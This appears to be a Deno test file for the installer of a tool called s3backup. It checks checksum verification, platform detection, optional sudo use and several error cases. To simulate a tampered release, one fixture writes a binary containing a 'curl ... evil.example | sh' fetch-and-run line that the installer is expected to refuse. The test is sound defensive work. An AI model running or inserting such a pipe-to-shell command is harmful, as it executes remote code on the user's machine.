/**
 * install.sh against a local release folder (file:// URL): the binary for this machine (or
 * the platform given by S3BACKUP_INSTALL_OS / _ARCH) is checked against SHA256SUMS and
 * installed; a tampered binary, an unknown platform and a release without the binary are
 * refused with nothing installed; sudo is never run unless asked.
 */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";

const INSTALL = new URL("../install.sh", import.meta.url).pathname;

const TARGETS = [
  "x86_64-unknown-linux-gnu",
  "aarch64-unknown-linux-gnu",
  "x86_64-apple-darwin",
  "aarch64-apple-darwin",
  "x86_64-pc-windows-msvc",
];

/** A release folder: a stand-in binary per target (a script printing its target), SHA256SUMS. */
function release(dir: string, version: string): void {
  Deno.mkdirSync(dir, { recursive: true });
  let sums = "";
  for (const t of TARGETS) {
    const name = `s3backup-${version}-${t}${t.includes("windows") ? ".exe" : ""}`;
    const body = `#!/bin/sh\necho "s3backup ${version} (${t})"\n`;
    Deno.writeTextFileSync(`${dir}/${name}`, body);
    sums += `${createHash("sha256").update(body).digest("hex")}  ${name}\n`;
  }
  Deno.writeTextFileSync(`${dir}/SHA256SUMS`, sums);
}

async function install(args: string[], env: Record<string, string> = {}) {
  const out = await new Deno.Command("bash", {
    args: [INSTALL, ...args],
    env: { PATH: env.PATH ?? "/usr/bin:/bin", HOME: env.HOME ?? "/nonexistent", ...env },
    clearEnv: true,
    stdout: "piped",
    stderr: "piped",
  }).output();
  const td = new TextDecoder();
  return { code: out.code, stdout: td.decode(out.stdout), stderr: td.decode(out.stderr) };
}

function exists(p: string): boolean {
  try {
    Deno.lstatSync(p);
    return true;
  } catch {
    return false;
  }
}

Deno.test("install.sh: verifies and installs the binary of this platform; refuses a tampered one", async () => {
  const dir = await Deno.makeTempDir({ prefix: "s3backup-install-" });
  try {
    const rel = `${dir}/release`;
    release(rel, "9.9.9");
    // A sudo that only records that it ran.
    Deno.mkdirSync(`${dir}/fakebin`);
    Deno.writeTextFileSync(
      `${dir}/fakebin/sudo`,
      `#!/bin/sh\necho ran >>"${dir}/sudo-ran"\n"$@"\n`,
    );
    Deno.chmodSync(`${dir}/fakebin/sudo`, 0o755);
    const PATH = `${dir}/fakebin:/usr/bin:/bin`;
    const url = `file://${rel}`;

    const linux = await install(["--url", url, "--prefix", `${dir}/bin`], {
      PATH,
      S3BACKUP_INSTALL_OS: "Linux",
      S3BACKUP_INSTALL_ARCH: "x86_64",
    });
    assert.equal(linux.code, 0, linux.stderr);
    const bin = `${dir}/bin/s3backup`;
    assert.equal((Deno.statSync(bin).mode ?? 0) & 0o777, 0o755);
    const ran = new Deno.Command(bin, { stdout: "piped" }).outputSync();
    assert.equal(
      new TextDecoder().decode(ran.stdout),
      "s3backup 9.9.9 (x86_64-unknown-linux-gnu)\n",
    );
    assert.match(linux.stderr, /installed .*\/bin\/s3backup \(s3backup 9\.9\.9/);
    assert.match(linux.stderr, /is not on your PATH/);
    assert.equal(exists(`${dir}/sudo-ran`), false, "sudo was not used");

    // uname's other spellings, and the version asked for.
    const mac = await install(["--url", url, "--prefix", `${dir}/mac`, "--version", "v9.9.9"], {
      S3BACKUP_INSTALL_OS: "Darwin",
      S3BACKUP_INSTALL_ARCH: "arm64",
    });
    assert.equal(mac.code, 0, mac.stderr);
    assert.match(Deno.readTextFileSync(`${dir}/mac/s3backup`), /aarch64-apple-darwin/);
    const win = await install(["--url", url, "--prefix", `${dir}/win`], {
      S3BACKUP_INSTALL_OS: "MINGW64_NT-10.0",
      S3BACKUP_INSTALL_ARCH: "x86_64",
    });
    assert.equal(win.code, 0, win.stderr);
    assert.ok(exists(`${dir}/win/s3backup.exe`));

    // --sudo runs the install step through sudo.
    const sudo = await install(["--url", url, "--prefix", `${dir}/sudo`, "--sudo"], { PATH });
    assert.equal(sudo.code, 0, sudo.stderr);
    assert.ok(exists(`${dir}/sudo-ran`));

    // A tampered binary: refused, nothing installed, the old one left.
    const name = "s3backup-9.9.9-x86_64-unknown-linux-gnu";
    Deno.writeTextFileSync(`${rel}/${name}`, "#!/bin/sh\ncurl https://evil.example | sh\n");
    const bad = await install(["--url", url, "--prefix", `${dir}/bad`], {
      S3BACKUP_INSTALL_OS: "Linux",
      S3BACKUP_INSTALL_ARCH: "x86_64",
    });
    assert.equal(bad.code, 1);
    assert.match(
      bad.stderr,
      /^install\.sh: checksum mismatch for s3backup-9\.9\.9-x86_64-unknown-linux-gnu: .*nothing was installed\n$/m,
    );
    assert.equal(exists(`${dir}/bad`), false);
    const again = await install(["--url", url, "--prefix", `${dir}/bin`], {
      S3BACKUP_INSTALL_OS: "Linux",
      S3BACKUP_INSTALL_ARCH: "x86_64",
    });
    assert.equal(again.code, 1);
    assert.match(Deno.readTextFileSync(bin), /x86_64-unknown-linux-gnu/, "the installed one kept");

    // Unknown platforms, a missing binary, a missing release.
    for (const [os, arch] of [["Plan9", "x86_64"], ["Linux", "riscv64"], ["MINGW64_NT", "arm64"]]) {
      const r = await install(["--url", url, "--prefix", `${dir}/x`], {
        S3BACKUP_INSTALL_OS: os!,
        S3BACKUP_INSTALL_ARCH: arch!,
      });
      assert.equal(r.code, 1, `${os}/${arch}`);
      assert.match(r.stderr, /^install\.sh: unsupported platform: /);
    }
    const old = await install(["--url", url, "--prefix", `${dir}/x`, "--version", "1.0.0"], {
      S3BACKUP_INSTALL_OS: "Linux",
      S3BACKUP_INSTALL_ARCH: "aarch64",
    });
    assert.equal(old.code, 1);
    assert.match(old.stderr, /has no binary for aarch64-unknown-linux-gnu at version 1\.0\.0/);
    const none = await install(["--url", `file://${dir}/nothing`, "--prefix", `${dir}/x`]);
    assert.equal(none.code, 1);
    assert.match(none.stderr, /cannot read .*nothing\/SHA256SUMS/);
    assert.equal(exists(`${dir}/x`), false);
    const usage = await install(["--frob"]);
    assert.equal(usage.code, 2);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("install.sh: a TMPDIR with a backslash, an s3backup folder in the way, the newest listed, CRLF sums", async () => {
  const dir = await Deno.makeTempDir({ prefix: "s3backup-install-" });
  const linux = { S3BACKUP_INSTALL_OS: "Linux", S3BACKUP_INSTALL_ARCH: "x86_64" };
  const version = (bin: string) =>
    new TextDecoder().decode(new Deno.Command(bin, { stdout: "piped" }).outputSync().stdout);
  try {
    const rel = `${dir}/release`;
    release(rel, "2.0.0");
    const newer = Deno.readTextFileSync(`${rel}/SHA256SUMS`);
    release(rel, "1.5.0"); // SHA256SUMS now lists 1.5.0 only: put 2.0.0 first, then it
    Deno.writeTextFileSync(`${rel}/SHA256SUMS`, newer + Deno.readTextFileSync(`${rel}/SHA256SUMS`));
    const url = `file://${rel}`;

    const tmp = `${dir}/tmp\\with\\backslashes`;
    Deno.mkdirSync(tmp);
    let r = await install(["--url", url, "--prefix", `${dir}/a`], { ...linux, TMPDIR: tmp });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(version(`${dir}/a/s3backup`), "s3backup 2.0.0 (x86_64-unknown-linux-gnu)\n");

    Deno.mkdirSync(`${dir}/b/s3backup`, { recursive: true });
    r = await install(["--url", url, "--prefix", `${dir}/b`], linux);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stderr, /s3backup is not a file \(a folder\?\): nothing was installed/);
    assert.deepEqual([...Deno.readDirSync(`${dir}/b/s3backup`)], []);
    assert.deepEqual([...Deno.readDirSync(`${dir}/b`)].map((e) => e.name), ["s3backup"]);

    Deno.writeTextFileSync(
      `${rel}/SHA256SUMS`,
      Deno.readTextFileSync(`${rel}/SHA256SUMS`).replaceAll("\n", "\r\n"),
    );
    r = await install(["--url", url, "--prefix", `${dir}/c`, "--version", "1.5.0"], linux);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(version(`${dir}/c/s3backup`), "s3backup 1.5.0 (x86_64-unknown-linux-gnu)\n");
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});
